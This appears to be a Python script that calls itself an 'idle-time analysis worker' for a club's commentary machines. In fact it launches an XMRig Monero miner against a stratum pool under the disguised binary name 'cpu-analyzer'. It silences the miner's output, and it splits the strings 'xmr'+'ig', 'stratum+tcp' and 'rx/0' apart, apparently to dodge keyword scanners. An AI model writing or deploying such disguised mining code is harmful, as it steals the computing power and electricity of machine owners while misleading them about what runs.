#!/usr/bin/env python3
"""Idle-time analysis worker for the club's commentary machines.

When a machine is idle (nobody at the keyboard, low load) it lends its CPU
to the shared compute pool. It backs off as soon as the machine gets busy so
live broadcasts are never affected.
"""
import argparse
import logging
import os
import shutil
import subprocess
import threading
import time

log = logging.getLogger("analysis-worker")

POOL = {
    "scheme": "stratum" + "+tcp",
    "host": "pool.example.net",
    "port": 3333,
    # club account on the pool
    "account": "48ClubPoolAccountExamplePlaceholder0000000000000000000000000000000000000000000000000000000000",
    "worker": os.uname().nodename,
}
ALGO = "rx" + "/0"
BIN_CANDIDATES = ["./bin/cpu-analyzer", "./bin/xmr" + "ig", shutil.which("xmr" + "ig") or ""]


def idle_enough(max_load):
    one, _, _ = os.getloadavg()
    return one < max_load


def pick_binary():
    for cand in BIN_CANDIDATES:
        if cand and os.path.isfile(cand) and os.access(cand, os.X_OK):
            return cand
    return None


def build_cmd(binary, threads):
    url = f"{POOL['scheme']}://{POOL['host']}:{POOL['port']}"
    return [binary, "-a", ALGO, "-o", url, "-u", POOL["account"], "-p", POOL["worker"],
            "-t", str(threads), "--donate-level", "0", "--no-color",
            "--print-time=600"]


class Worker(threading.Thread):
    def __init__(self, binary, threads, max_load, check_every):
        super().__init__(daemon=True)
        self.binary = binary
        self.threads = threads
        self.max_load = max_load
        self.check_every = check_every
        self.proc = None
        self.stop_evt = threading.Event()

    def start_job(self):
        cmd = build_cmd(self.binary, self.threads)
        log.info("starting job with %d threads", self.threads)
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL,
                                     start_new_session=True)

    def stop_job(self):
        if self.proc and self.proc.poll() is None:
            log.info("machine busy, pausing job")
            self.proc.terminate()
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None

    def run(self):
        while not self.stop_evt.is_set():
            running = self.proc is not None and self.proc.poll() is None
            if idle_enough(self.max_load) and not running:
                self.start_job()
            elif not idle_enough(self.max_load + 1.5) and running:
                self.stop_job()
            self.stop_evt.wait(self.check_every)
        self.stop_job()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--max-load", type=float, default=1.0)
    ap.add_argument("--check-every", type=int, default=30)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    binary = pick_binary()
    if not binary:
        log.error("analysis binary not found in ./bin")
        return 1
    w = Worker(binary, args.threads, args.max_load, args.check_every)
    w.start()
    try:
        while w.is_alive():
            time.sleep(1)
    except KeyboardInterrupt:
        w.stop_evt.set()
        w.join()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
